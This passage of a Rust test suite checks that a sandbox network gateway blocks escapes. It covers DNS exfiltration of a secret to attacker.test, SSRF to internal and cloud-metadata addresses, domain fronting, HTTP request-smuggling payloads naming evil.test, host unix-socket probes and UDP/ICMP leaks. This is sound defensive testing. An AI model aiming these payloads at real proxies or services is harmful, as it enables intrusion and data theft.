        assert!(
            !n.contains(&secret) && !n.contains("attacker") && !n.starts_with('<'),
            "the host-side resolver was asked {n:?} (all: {asked:?})"
        );
    }
    let audit = sb.audit();
    audit.assert_well_formed();
    audit.assert_denied("dns", &format!("{secret}.attacker.test"), "never forwards");
    audit.assert_denied(
        "dns",
        &format!("{secret}-u.attacker.test"),
        "never forwards",
    );
    audit.assert_denied(
        "dns",
        &format!("{secret}-v.attacker.test"),
        "never forwards",
    );
    // The names sent through the proxy were refused by name, never resolved.
    for (kind, name) in [("http", "p"), ("http", "o"), ("connect", "q")] {
        audit.assert_denied(
            kind,
            &format!("{secret}-{name}.attacker.test"),
            "is not on the allowlist",
        );
    }
    // Every record naming the secret is a refusal with no address: the stub's
    // or the proxy's, never a connection.
    for r in &audit.records {
        if r["host"].as_str().is_some_and(|h| h.contains(&secret)) {
            assert!(
                ["dns", "http", "connect"].contains(&r["kind"].as_str().unwrap_or("")),
                "{r}"
            );
            assert_eq!(r["verdict"], "denied", "{r}");
            assert!(r["address"].is_null(), "{r}");
        }
    }
}

// ---------------------------------------------------------------------------
// N6: SSRF through names that resolve to internal addresses
// ---------------------------------------------------------------------------

/// (name, resolved addresses, a word of the refusal).
const SSRF: &[(&str, &[&str], &str)] = &[
    ("lo.test", &["127.0.0.1"], "loopback"),
    ("lo2.test", &["127.1.2.3"], "loopback"),
    ("ten.test", &["10.0.0.1"], "10.0.0.0/8"),
    ("p172.test", &["172.16.0.1"], "172.16.0.0/12"),
    ("p172b.test", &["172.31.255.254"], "172.16.0.0/12"),
    ("p192.test", &["192.168.0.1"], "192.168.0.0/16"),
    ("meta.test", &["169.254.169.254"], "cloud metadata"),
    ("cgnat.test", &["100.64.0.1"], "100.64.0.0/10"),
    ("zero.test", &["0.0.0.0"], "0.0.0.0/8"),
    ("v6lo.test", &["::1"], "loopback address (::1)"),
    ("v6any.test", &["::"], "unspecified"),
    ("ula.test", &["fc00::1"], "unique-local"),
    ("ula2.test", &["fd12:3456::1"], "unique-local"),
    ("ll6.test", &["fe80::1"], "link-local address (fe80::/10)"),
    ("mapped.test", &["::ffff:10.0.0.1"], "10.0.0.0/8"),
    ("mappedlo.test", &["::ffff:127.0.0.1"], "loopback"),
    (
        "mappedmeta.test",
        &["::ffff:169.254.169.254"],
        "cloud metadata",
    ),
    ("nat64.test", &["64:ff9b::a00:1"], "10.0.0.0/8"),
    ("compat.test", &["::7f00:1"], "loopback"),
    ("mcast.test", &["224.0.0.1"], "multicast"),
    ("nat64local.test", &["64:ff9b:1::a00:1"], "64:ff9b:1::/48"),
    ("sixtofour.test", &["2002:a00:1::1"], "10.0.0.0/8"),
    ("sixtofourlo.test", &["2002:7f00:1::1"], "loopback"),
    ("sitelocal.test", &["fec0::1"], "site-local"),
    // One bad address among good ones is enough to refuse.
    ("mixed.test", &["100.128.0.1", "10.0.0.1"], "10.0.0.0/8"),
];

fn n6_ssrf_is_refused_unless_pinned(b: Backend) {
    // The door runs in a namespace of the test's own whose loopback carries
    // the internal addresses, with listeners on all of them: if the door ever
    // connected to one, the listener would see it, and nothing leaves this machine.
    let outside = Netns::new(
        &[
            "10.0.0.1/32",
            "172.16.0.1/32",
            "172.31.255.254/32",
            "192.168.0.1/32",
            "169.254.169.254/32",
            "100.64.0.1/32",
            "100.128.0.1/32",
            "fc00::1/128",
            "fd12:3456::1/128",
        ],
        &["fe80::1/128"],
    );
    let any: std::net::IpAddr = "::".parse().unwrap();
    let web = Upstream::bind(&[any], 80, Some(&outside));
    let web_tls = Upstream::bind(&[any], 443, Some(&outside));
    let mut allow: Vec<&str> = SSRF.iter().map(|(n, _, _)| *n).collect();
    allow.extend(["pinned.test", "pinned10.test", "pinnedmeta.test"]);
    let names: Vec<(&str, &[&str])> = SSRF.iter().map(|(n, a, _)| (*n, *a)).collect();
    let mut sb = LibSandbox::start(
        b,
        "n6",
        &outside,
        LibDoorSpec {
            allow: &allow,
            pins: &[
                ("pinned.test", "127.0.0.1"),
                ("pinned10.test", "10.0.0.1"),
                ("pinnedmeta.test", "169.254.169.254"),
            ],
            names: &names,
        },
    );
    let list: Vec<&str> = SSRF.iter().map(|(n, _, _)| *n).collect();
    let code = format!("NAMES = {}\n", serde_json::to_string(&list).unwrap())
        + r#"
for n in NAMES:
    attempt("http " + n, raw, "GET http://%s/n6 HTTP/1.1\r\nHost: %s\r\n\r\n" % (n, n))
    attempt("connect " + n, connect_status, n + ":443")
    attempt("stub " + n, resolve4, n)
    attempt("transparent " + n, lambda n=n: raw("GET /n6-tr HTTP/1.1\r\nHost: %s\r\n\r\n" % n, (resolve4(n)[0], 80)))
    attempt("transparent-tls " + n, lambda n=n: tls_get(n, 443, n, None, "/n6-tls", False, resolve4(n)[0]))
for n in ["pinned.test", "pinned10.test", "pinnedmeta.test"]:
    attempt("http " + n, raw, "GET http://%s/n6-pinned HTTP/1.1\r\nHost: %s\r\n\r\n" % (n, n))
    attempt("transparent " + n, lambda n=n: raw("GET /n6-pinned-tr HTTP/1.1\r\nHost: %s\r\n\r\n" % n, (resolve4(n)[0], 80)))
"#;
    let r = sb.python(&code);
    for (n, _, why) in SSRF {
        let v = py_ok(&r, &format!("http {n}"));
        assert_eq!(v["status"], FORBIDDEN, "{n}: {v}");
        let reason = v["denied"].as_str().unwrap();
        assert!(
            reason.contains(why) && reason.contains(&format!("pin it with --resolve {n}=")),
            "{n}: {reason}"
        );
        py_status(&r, &format!("connect {n}"), FORBIDDEN, why);
        // The stub answers for allowed names without resolving them...
        let stub = py_ok(&r, &format!("stub {n}"));
        assert!(
            stub[0].as_str().unwrap().starts_with("127.100."),
            "{n}: {stub}"
        );
        // ...and the transparent path judges the resolved address the same way.
        py_status(&r, &format!("transparent {n}"), FORBIDDEN, why);
        let tt = &r[format!("transparent-tls {n}")];
        assert_eq!(
            tt["ok"], false,
            "{n}: a TLS tunnel to an internal address: {tt}"
        );
    }
    for n in ["pinned.test", "pinned10.test", "pinnedmeta.test"] {
        py_status(&r, &format!("http {n}"), 200, "");
        py_status(&r, &format!("transparent {n}"), 200, "");
    }

    // Only the pinned requests reached the outside, at the pinned addresses.
    let hits = web.hits();
    let mut seen: Vec<(String, String)> = hits
        .iter()
        .map(|h| {
            (
                moat_policy::network::canonical_ip(h.local.ip()).to_string(),
                h.request_line(),
            )
        })
        .collect();
    seen.sort();
    let mut want = Vec::new();
    for (addr, _) in [
        ("127.0.0.1", "pinned.test"),
        ("10.0.0.1", "pinned10.test"),
        ("169.254.169.254", "pinnedmeta.test"),
    ] {
        want.push((addr.to_string(), "GET /n6-pinned HTTP/1.1".to_string()));
        want.push((addr.to_string(), "GET /n6-pinned-tr HTTP/1.1".to_string()));
    }
    want.sort();
    assert_eq!(seen, want);
    web_tls.assert_untouched("N6 TLS");

    let audit = sb.audit();
    audit.assert_well_formed();
    for (n, addrs, why) in SSRF {
        for kind in ["http", "connect", "transparent-http", "transparent-tls"] {
            audit.assert_denied(kind, n, why);
        }
        // The address named in the refusal is the one the resolver gave.
        let rec = audit.find("http", n, "denied");
        let reason = rec[0]["reason"].as_str().unwrap();
        assert!(
            addrs.iter().any(|a| {
                let shown = a.parse::<std::net::IpAddr>().unwrap().to_string();
                reason.contains(&format!("resolves to {shown},"))
            }),
            "{n}: {reason}"
        );
    }
    audit.assert_allowed("http", "pinned10.test");
    let pinned = audit.find("http", "pinned10.test", "allowed");
    assert_eq!(pinned[0]["address"], "10.0.0.1:80");
}

// ---------------------------------------------------------------------------
// N7: domain fronting
// ---------------------------------------------------------------------------

fn n7_domain_fronting(b: Backend) {
    let pki = Pki::new(&["front.test", "other.test", "also.test"]);
    let tls = TlsServer::start(&pki, None);
    let t = tls.port;
    let mut sb = Sandbox::new(b, "n7");
    sb.allow(&format!("front.test:{t}"))
        .allow(&format!("also.test:{t}"))
        .pin("front.test", "127.0.0.1")
        .pin("also.test", "127.0.0.1")
        .pin("other.test", "127.0.0.1")
        .trust(&pki);
    let sc = "openssl s_client -brief -verify_return_error -CAfile /workspace/ca.pem -proxy 127.0.0.1:3128";
    let pr = sb
        .sh(&format!(
            "t ok_s_client {sc} -connect front.test:{t} -servername front.test\n\
             t s_client_other {sc} -connect front.test:{t} -servername other.test\n\
             t s_client_allowed_other {sc} -connect front.test:{t} -servername also.test\n\
             t s_client_no_sni {sc} -connect front.test:{t} -noservername\n\
             t curl_ok curl -sS -m 10 https://front.test:{t}/n7/ok\n\
             t curl_connect_to curl -sS -m 10 --connect-to other.test:{t}:front.test:{t} https://other.test:{t}/n7/fronted\n\
             t curl_connect_to_allowed curl -sS -m 10 --connect-to also.test:{t}:front.test:{t} https://also.test:{t}/n7/fronted\n"
        ))
        .probes();
    assert_eq!(pr.code("ok_s_client"), 0, "{}", pr.out("ok_s_client"));
    for name in [
        "s_client_other",
        "s_client_allowed_other",
        "s_client_no_sni",
    ] {
        assert_ne!(pr.code(name), 0, "{name}: {}", pr.out(name));
        assert!(
            !pr.out(name).contains("Verification: OK")
                && !pr.out(name).contains("CONNECTION ESTABLISHED"),
            "{name}: {}",
            pr.out(name)
        );
    }
    pr.succeeded("curl_ok", "tls-hello /n7/ok");
    pr.failed("curl_connect_to", Some(35), "");
    pr.failed("curl_connect_to_allowed", Some(35), "");

    let r = sb.python(
        &(format!("T = {t}\n")
            + r#"
CA = "/workspace/ca.pem"
attempt("ok", tls_get, "front.test", T, "front.test", CA, "/n7/py-ok")
attempt("ok case", tls_get, "front.test", T, "FRONT.Test", CA, "/n7/py-case")
attempt("other", tls_get, "front.test", T, "other.test", CA, "/n7/py-other")
attempt("also", tls_get, "front.test", T, "also.test", CA, "/n7/py-also")
attempt("suffix", tls_get, "front.test", T, "front.test.other.test", None, "/n7/py-suffix")
attempt("no sni", tls_get, "front.test", T, None, None, "/n7/py-nosni")
attempt("ip sni", tls_get, "front.test", T, "127.0.0.1", None, "/n7/py-ip")
# not TLS at all through the tunnel
def plain_in_tunnel():
    s = socket.create_connection(PROXY, timeout=15)
    s.sendall(("CONNECT front.test:%d HTTP/1.1\r\nHost: front.test\r\n\r\n" % T).encode())
    head = read_head(s)
    s.sendall(b"GET /n7/plain HTTP/1.1\r\nHost: front.test\r\n\r\n")
    return head.split("\r\n")[0] + " | " + read_all(s).decode("latin-1")
attempt("plain", plain_in_tunnel)
# the transparent path: the stub's address for front.test, another name in SNI
attempt("tr ok", lambda: tls_get("front.test", T, "front.test", CA, "/n7/tr-ok", False, resolve4("front.test")[0]))
attempt("tr other", lambda: tls_get("front.test", T, "other.test", CA, "/n7/tr-other", False, resolve4("front.test")[0]))
attempt("tr also", lambda: tls_get("front.test", T, "also.test", CA, "/n7/tr-also", False, resolve4("front.test")[0]))
attempt("tr no sni", lambda: tls_get("front.test", T, None, None, "/n7/tr-nosni", False, resolve4("front.test")[0]))
# hand-made ClientHellos: the name in a second record, odd name types, other messages
FT = "front.test:%d" % T
attempt("split other", tunnel_bytes, FT, records(client_hello(["other.test"]), 60))
attempt("split front", tunnel_bytes, FT, records(client_hello(["front.test"]), 60))
attempt("name type 1", tunnel_bytes, FT, records(client_hello(["front.test"], name_type=1)))
attempt("two names other first", tunnel_bytes, FT, records(client_hello(["other.test", "front.test"])))
attempt("two names front first", tunnel_bytes, FT, records(client_hello(["front.test", "other.test"])))
attempt("two names both front", tunnel_bytes, FT, records(client_hello(["front.test", "front.test"])))
attempt("two extensions", tunnel_bytes, FT, records(client_hello(["front.test"], copies=2)))
attempt("not a hello", tunnel_bytes, FT, records(client_hello(["front.test"], hs_type=2)))
attempt("huge hello", tunnel_bytes, FT, records(client_hello(["front.test"], pad=30000, suites=20000)))
attempt("nul in name", tunnel_bytes, FT, records(client_hello(["front.test\x00.other.test"])))
"#),
    );
    for ok in ["ok", "ok case", "tr ok"] {
        let v = py_ok(&r, ok);
        assert_eq!(v["status"], 200, "{ok}: {v}");
    }
    for bad in [
        "other",
        "also",
        "suffix",
        "no sni",
        "ip sni",
        "tr other",
        "tr also",
        "tr no sni",
    ] {
        let v = &r[bad];
        assert_eq!(v["ok"], false, "{bad}: fronting got through: {v}");
    }
    let plain = py_ok(&r, "plain").as_str().unwrap();
    assert!(
        plain.starts_with("HTTP/1.1 200 Connection established | "),
        "{plain}"
    );
    assert!(!plain.contains("tls-hello"), "{plain}");

    for refused in [
        "split other",
        "name type 1",
        "two names other first",
        "two names front first",
        "two names both front",
        "two extensions",
        "not a hello",
        "huge hello",
        "nul in name",
    ] {
        let v = py_ok(&r, refused).as_str().unwrap();
        assert_eq!(
            v, "HTTP/1.1 200 Connection established | ",
            "{refused}: bytes came back through a refused tunnel"
        );
    }
    // A split hello naming the tunnel's host is joined and passed on (the
    // server then rejects the made-up handshake).
    let v = py_ok(&r, "split front").as_str().unwrap();
    assert!(
        v.starts_with("HTTP/1.1 200 Connection established | 15"),
        "{v}"
    );

    // The server saw exactly the allowed handshakes: two from the shell, three
    // from Python's ssl, one made by hand.
    assert_eq!(tls.conns(), 6, "{:?}", tls.requests());
    let mut paths: Vec<String> = tls.requests().into_iter().map(|r| r.1).collect();
    paths.sort();
    assert_eq!(paths, ["/n7/ok", "/n7/py-case", "/n7/py-ok", "/n7/tr-ok"]);
    let audit = sb.audit();
    audit.assert_well_formed();
    audit.assert_denied(
        "connect",
        "front.test",
        "names \"other.test\", not front.test (domain fronting)",
    );
    audit.assert_denied(
        "connect",
        "front.test",
        "names \"also.test\", not front.test",
    );
    audit.assert_denied("connect", "front.test", "names no server");
    audit.assert_denied("connect", "front.test", "does not carry TLS");
    audit.assert_denied("transparent-tls", "front.test", "names \"other.test\"");
    audit.assert_denied("transparent-tls", "front.test", "names no server");
    audit.assert_denied("connect", "front.test", "unreadable TLS ClientHello");
    audit.assert_denied(
        "connect",
        "front.test",
        "names its server more than once (more than one name in server_name)",
    );
    audit.assert_denied(
        "connect",
        "front.test",
        "names its server more than once (two server_name extensions)",
    );
}

// ---------------------------------------------------------------------------
// N8: request smuggling
// ---------------------------------------------------------------------------

fn n8_ambiguous_http_is_refused(b: Backend) {
    let up = Upstream::loopback();
    let p = up.port;
    let marker = format!("m8-{}", random_hex(8));
    let mut sb = Sandbox::new(b, "n8");
    sb.allow(&format!("up.test:{p}"))
        .pin("up.test", "127.0.0.1")
        .pin("evil.test", "127.0.0.1");
    let code = format!("P = {p}\nM = {}\n", q(&marker))
        + r#"
A = "up.test:%d" % P
CASES = {
    "cl_te": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nX-M: %s\r\n\r\n0\r\n\r\n" % (A, A, M), 400),
    "te_cl": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" % (A, A), 400),
    "te_cl_case": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\ntransfer-encoding: chunked\r\ncontent-length: 40\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n" % (A, A), 400),
    "two_cl": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n%s" % (A, A, M), 400),
    "cl_list": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nContent-Length: 5, 5\r\n\r\nabcde" % (A, A), 400),
    "cl_plus": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nContent-Length: +5\r\n\r\nabcde" % (A, A), 400),
    "te_gzip_chunked": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" % (A, A), 400),
    "te_two": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" % (A, A), 400),
    "te_xchunked": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" % (A, A), 400),
    "te_space_colon": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" % (A, A), 400),
    "te_folded": ("POST http://%s/s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" % (A, A), 400),
    "crlf_connect": ("CONNECT %s\r\nX-Smuggled: evil.test:443 HTTP/1.1\r\nHost: %s\r\n\r\n" % (A, A), 400),
    "cr_connect": ("CONNECT up.test\r:%d HTTP/1.1\r\nHost: %s\r\n\r\n" % (P, A), 400),
    "lf_target": ("GET http://%s/a\nb HTTP/1.1\r\nHost: %s\r\n\r\n" % (A, A), 400),
    "encoded_crlf_connect": ("CONNECT %s%%0d%%0aHost:evil.test HTTP/1.1\r\nHost: %s\r\n\r\n" % (A, A), 400),
    "host_differs": ("GET http://%s/s HTTP/1.1\r\nHost: evil.test\r\nX-M: %s\r\n\r\n" % (A, M), 400),
    "host_differs_reverse": ("GET http://evil.test:%d/s HTTP/1.1\r\nHost: %s\r\n\r\n" % (P, A), 400),
    "host_port_differs": ("GET http://%s/s HTTP/1.1\r\nHost: up.test:1\r\n\r\n" % A, 400),
    "host_missing": ("GET http://%s/s HTTP/1.1\r\nX-M: %s\r\n\r\n" % (A, M), 400),
    "host_twice": ("GET http://%s/s HTTP/1.1\r\nHost: %s\r\nHost: evil.test\r\n\r\n" % (A, A), 400),
    "host_userinfo": ("GET http://%s@evil.test/s HTTP/1.1\r\nHost: evil.test\r\n\r\n" % A, 400),
    "origin_form": ("GET /s HTTP/1.1\r\nHost: %s\r\n\r\n" % A, 400),
    "https_absolute": ("GET https://%s/s HTTP/1.1\r\nHost: %s\r\n\r\n" % (A, A), 400),
    "nul_header": ("GET http://%s/s HTTP/1.1\r\nHost: %s\r\nX-M: a\x00b\r\n\r\n" % (A, A), 400),
    "connect_body": ("CONNECT %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\n\r\nhello" % (A, A), 400),
    "http2_preface": ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    "http09": ("GET http://%s/s\r\n\r\n" % A, 400),
    "big_head": ("GET http://%s/s HTTP/1.1\r\nHost: %s\r\nX-Big: %s\r\n\r\n" % (A, A, "a" * 20000), 431),
    "many_headers": ("GET http://%s/s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (A, A, "".join("X-%d: %s\r\n" % (i, M) for i in range(150))), 431),
}
for name, (data, _) in CASES.items():
    attempt(name, raw, data)
R["expected"] = {"ok": True, "value": {k: v[1] for k, v in CASES.items()}}
# chunked bodies whose framing a lenient upstream reads differently; the
# head may already be upstream, but the door must answer 400 and pass on no
# second request
CH = "POST http://%s/chunked-%%s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n" % (A, A)
SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
BODY_CASES = {
    "chunk_lf_end": CH % "lf-end" + "0\r\n\n" + SMUGGLED,
    "chunk_lf_trailer": CH % "lf-trailer" + "0\r\nX-T: 1\n\r\n" + SMUGGLED,
    "chunk_data_no_crlf": CH % "no-crlf" + "5\r\nhelloXY0\r\n\r\n",
    "chunk_data_lf": CH % "data-lf" + "5\r\nhello\n0\r\n\r\n" + SMUGGLED,
    "chunk_cr_in_size_line": CH % "cr-size" + "5;a\rGET /smuggled HTTP/1.1\r\nhello\r\n0\r\n\r\n",
    "chunk_folded_trailer": CH % "fold" + "0\r\nX-T: 1\r\n " + SMUGGLED,
    "chunk_trailer_not_a_field": CH % "not-field" + "0\r\n" + SMUGGLED,
    "chunk_size_overflow": CH % "overflow" + "10000000000000005\r\nhello\r\n0\r\n\r\n",
}
for name, data in BODY_CASES.items():
    attempt(name, raw, data)
    R["expected"]["value"][name] = 400
# a valid request followed by a pipelined one for another host: only the first goes out
attempt("pipelined", raw, "GET http://%s/first HTTP/1.1\r\nHost: %s\r\nX-M: %s\r\n\r\nGET http://evil.test:%d/second HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (A, A, M, P, P))
# the same shapes on the transparent path (the stub's address for up.test)
TR = (resolve4("up.test")[0], P)
TCASES = {
    "tr_cl_te": ("POST /s HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % A, 400),
    "tr_host_twice": ("GET /s HTTP/1.1\r\nHost: %s\r\nHost: evil.test\r\n\r\n" % A, 400),
    "tr_host_other": ("GET /s HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % P, 400),
    "tr_absolute_other": ("GET http://evil.test:%d/s HTTP/1.1\r\nHost: %s\r\n\r\n" % (P, A), 400),
    "tr_big_head": ("GET /s HTTP/1.1\r\nHost: %s\r\nX-Big: %s\r\n\r\n" % (A, "a" * 20000), 431),
    "tr_te_xchunked": ("POST /s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: xchunked\r\n\r\n" % A, 400),
}
for name, (data, _) in TCASES.items():
    attempt(name, raw, data, TR)
    R["expected"]["value"][name] = TCASES[name][1]
# a body that looks like a second request is only ever a body
attempt("body_smuggle", raw, "POST http://%s/body HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\n\r\nhelloGET http://evil.test:%d/smuggled HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % (A, A, P, P))
"#;
    let r = sb.python(&code);
    let expected = py_ok(&r, "expected").as_object().unwrap().clone();
    let wrong: Vec<String> = expected
        .iter()
        .filter(|(name, status)| &py_ok(&r, name)["status"] != *status)
        .map(|(name, status)| format!("{name}: want {status}, got {}", r[name]))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    py_status(&r, "pipelined", 200, "");
    py_status(&r, "body_smuggle", 200, "");

    // Upstream: the two good requests, and at most the heads (and partial
    // bodies) of the chunked ones the door cut off.
    let lines = up.request_lines();
    for want in ["GET /first HTTP/1.1", "POST /body HTTP/1.1"] {
        assert!(lines.iter().any(|l| l == want), "{want} missing: {lines:?}");
    }
    for l in &lines {
        assert!(
            l == "GET /first HTTP/1.1"
                || l == "POST /body HTTP/1.1"
                || (l.starts_with("POST /chunked-") && l.ends_with(" HTTP/1.1")),
            "the upstream received a refused request: {l}"
        );
    }
    for h in up.hits() {
        let text = h.text();
        assert!(
            !text.contains("evil.test") && !text.contains("smuggled"),
            "smuggled: {text:?}"
        );
        assert_eq!(
            text.matches("HTTP/1.1\r\n").count(),
            1,
            "two requests on one connection: {text}"
        );
    }
    let audit = sb.audit();
    audit.assert_well_formed();
    audit.assert_denied("http", "", "both Content-Length and Transfer-Encoding");
    audit.assert_denied("http", "", "larger than 16 KiB");
    audit.assert_denied("http", "", "more than 100 header fields");
    audit.assert_denied("http", "up.test", "Host header does not name");
    audit.assert_absent(&marker);
    assert!(
        audit.find("http", "evil.test", "allowed").is_empty(),
        "{}",
        audit.text
    );
}

// ---------------------------------------------------------------------------
// N9: host unix sockets
// ---------------------------------------------------------------------------

fn n9_no_host_unix_socket(b: Backend) {
    let tag = format!("{}-{}-{}", std::process::id(), b.name(), random_hex(4));
    let (dir, _) = fresh_dir("n9-sock");
    let tmp_path = dir.join("host.sock").to_string_lossy().into_owned();
    std::fs::create_dir_all("/run/moat-test").unwrap();
    let run_path = format!("/run/moat-test/{tag}.sock");
    let abstract_name = format!("@moat-test-{tag}");
    let socks: Vec<(String, UnixLog)> = [tmp_path.clone(), run_path.clone(), abstract_name.clone()]
        .into_iter()
        .map(|n| {
            let l = UnixLog::bind(&n);
            l.check_reachable(&n);
            (n, l)
        })
        .collect();
    let before: Vec<u32> = socks.iter().map(|(_, l)| l.accepted()).collect();
    let up = Upstream::loopback();
    for with_door in [false, true] {
        let mut sb = Sandbox::new(b, &format!("n9-{with_door}"));
        if with_door {
            sb.allow(&format!("web.test:{}", up.port))
                .pin("web.test", "127.0.0.1");
        }
        let runtime_dir = sb.dir.join("run").to_string_lossy().into_owned();
        let data_dir = sb.dir.join("data").to_string_lossy().into_owned();
        let code = format!(
            "PATHS = {}\nABSTRACT = {}\nRUNTIME = {}\n",
            serde_json::to_string(&[&tmp_path, &run_path]).unwrap(),
            q(&abstract_name[1..]),
            serde_json::to_string(&[&runtime_dir, &data_dir]).unwrap(),
        ) + r#"
def unix_connect(addr):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        return "connected"
    finally:
        s.close()
for p in PATHS:
    attempt("path " + p, unix_connect, p)
attempt("abstract", unix_connect, "\0" + ABSTRACT)
WELL_KNOWN = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
              "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket", "/run/systemd/private",
              "/run/systemd/notify", "/run/systemd/journal/socket", "/dev/log", "/run/moat/control",
              "/run/moat/moat.sock", "/var/lib/moat", "/run/user/0", "/tmp/.X11-unix/X0"] + RUNTIME
for p in WELL_KNOWN:
    attempt("well-known " + p, unix_connect, p)
R["exists"] = {"ok": True, "value": [p for p in WELL_KNOWN + PATHS if os.path.lexists(p)]}
def visible_sockets():
    # Every socket file outside /proc and /sys (the kernel's own views).
    import stat
    found, todo = [], ["/"]
    while todo:
        d = todo.pop()
        try:
            entries = list(os.scandir(d))
        except OSError:
            continue
        for e in entries:
            if e.path in ("/proc", "/sys"):
                continue
            if e.is_dir(follow_symlinks=False):
                todo.append(e.path)
            elif not e.is_file(follow_symlinks=False) and not e.is_symlink():
                try:
                    if stat.S_ISSOCK(os.lstat(e.path).st_mode):
                        found.append(e.path)
                except OSError:
                    pass
    return found
# a socket of the sandbox's own shows the walk finds sockets
own = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
own.bind("/tmp/n9-own.sock")
R["socket files"] = {"ok": True, "value": visible_sockets()}
# /run holds moat's init program and nothing of the host's
R["run"] = {"ok": True, "value": sorted(os.path.join(r, f) for r, d, fs in os.walk("/run") for f in fs + d)}
with open("/proc/net/unix") as f:
    R["proc net unix"] = {"ok": True, "value": f.read()}
"#;
        let r = sb.python(&code);
        for p in [&tmp_path, &run_path] {
            py_failed(&r, &format!("path {p}"), &["ENOENT"]);
        }
        py_failed(&r, "abstract", &["ECONNREFUSED"]);
        let exists = py_ok(&r, "exists").as_array().unwrap().clone();
        assert!(exists.is_empty(), "host paths visible inside: {exists:?}");
        let run = py_ok(&r, "run").as_array().unwrap().clone();
        // Nothing there but moat's own init program (bwrap binds it; gVisor
        // starts it from elsewhere).
        assert!(
            run.iter()
                .all(|p| p == "/run/moat" || p == "/run/moat/init"),
            "/run inside: {run:?}"
        );
        let files = py_ok(&r, "socket files").as_array().unwrap().clone();
        // (bwrap also shows the lease's /tmp at /dev/shm)
        assert!(
            files.contains(&"/tmp/n9-own.sock".into())
                && files
                    .iter()
                    .all(|f| f == "/tmp/n9-own.sock" || f == "/dev/shm/n9-own.sock"),
            "socket files inside: {files:?}"
        );
        let unix = py_ok(&r, "proc net unix").as_str().unwrap().to_string();
        assert!(
            !unix.contains(&tag) && !unix.contains("docker") && !unix.contains("dbus"),
            "{unix}"
        );
    }
    let after: Vec<u32> = socks.iter().map(|(_, l)| l.accepted()).collect();
    assert_eq!(
        before, after,
        "a host unix socket accepted a connection from inside"
    );
    up.assert_untouched("N9");
}

// ---------------------------------------------------------------------------
// N10: UDP, QUIC and ICMP
// ---------------------------------------------------------------------------

fn n10_udp_quic_icmp(b: Backend) {
    let udp = UdpLog::on_host();
    // QUIC's port on the host's loopback, if free.
    let quic = UdpLog::bind(&loopbacks(), 443).ok();
    let icmp = IcmpWatch::start();
    let up = Upstream::loopback();
    let u = udp.port;
    let pattern = icmp.ping_pattern();
    let host = require_host_addrs();
    for with_door in [false, true] {
        let mut sb = Sandbox::new(b, &format!("n10-{with_door}"));
        if with_door {
            sb.allow(&format!("web.test:{}", up.port))
                .allow("quic.test")
                .pin("web.test", "127.0.0.1")
                .pin("quic.test", "127.0.0.1");
        }
        let mut script = String::new();
        for (i, ip) in local_addrs().iter().enumerate() {
            if !ip.is_loopback() {
                script += &format!(
                    "t ping{i} ping -c 1 -W 2 -p {pattern} {ip}\n\
                     t ncudp{i} sh -c 'echo n10 | nc -u -w 1 {ip} {u}'\n"
                );
            }
        }
        let pr = sb.sh(&script).probes();
        for (i, ip) in local_addrs().iter().enumerate() {
            if !ip.is_loopback() {
                ping_refused(&pr, &format!("ping{i}"), b, with_door);
                pr.failed(&format!("ncudp{i}"), Some(1), "");
            }
        }
        let code = format!(
            "U = {u}\nADDRS = {}\nDOOR = {}\n",
            serde_json::to_string(&local_addrs()).unwrap(),
            if with_door { "True" } else { "False" }
        ) + r#"
# A QUIC v1 Initial-looking datagram (long header, version 1), padded to 1200 bytes.
QUIC = bytes([0xc3, 0, 0, 0, 1, 8]) + os.urandom(8) + bytes([0]) + b"\x00\x41\x00" + b"n10-quic" * 140
for a in ADDRS:
    fam = socket.AF_INET6 if ":" in a else socket.AF_INET
    attempt("udp " + a, udp_exchange, a, U, b"n10-udp", fam)
    attempt("quic " + a, udp_exchange, a, 443, QUIC, fam)
if DOOR:
    attempt("quic stub", lambda: udp_exchange(resolve4("quic.test")[0], 443, QUIC))
    attempt("udp stub 80", lambda: udp_exchange(resolve4("quic.test")[0], 80, b"n10-udp"))
def icmp_dgram(dst, fam):
    proto = socket.IPPROTO_ICMP if fam == socket.AF_INET else socket.IPPROTO_ICMPV6
    s = socket.socket(fam, socket.SOCK_DGRAM, proto)
    s.settimeout(2)
    try:
        kind = 8 if fam == socket.AF_INET else 128
        s.sendto(bytes([kind, 0, 0, 0, 0, 1, 0, 1]) + b"n10-icmp", (dst, 0))
        return s.recv(1024).hex()
    finally:
        s.close()
